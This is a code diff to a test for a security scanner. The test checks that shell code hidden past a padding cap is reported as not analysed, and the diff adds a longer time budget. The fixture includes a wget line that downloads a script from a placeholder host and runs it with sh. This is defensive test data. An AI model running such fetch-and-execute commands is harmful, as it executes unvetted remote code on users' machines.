@@ -154,7 +154,8 @@ describe('code facts', () => {
   it('reports code past the cap on recorded calls as not analysed, so padding cannot hide what follows it', () => {
     const padding = 'chmod +x a; chmod +x b\n'.repeat(MAX_CALLS / 2);
     const { file } = ctxOf('pad.sh', `${padding}wget -q https://h.example/t.sh -O /tmp/t.sh\nsh /tmp/t.sh\n`);
-    const findings = createStaticAnalyzer().analyze(file, { files: [file], skipped: [], primaryPath: file.relativePath });
+    // A generous time budget: the cap, not the clock of a loaded machine, must be what stops the parse.
+    const findings = createStaticAnalyzer({ budgetMs: 120_000 }).analyze(file, { files: [file], skipped: [], primaryPath: file.relativePath });
     expect(findings).toContainEqual(expect.objectContaining({ rule_id: 'scanner.analysis-incomplete', severity: 'high', evidence: expect.stringMatching(/more than 20000 commands/) }));
     const below = codeFactsOf(ctxOf('pad.sh', `${padding.slice(0, padding.length / 2)}sh /tmp/t.sh\n`).ctx);
     expect(below.incomplete).toBeNull();
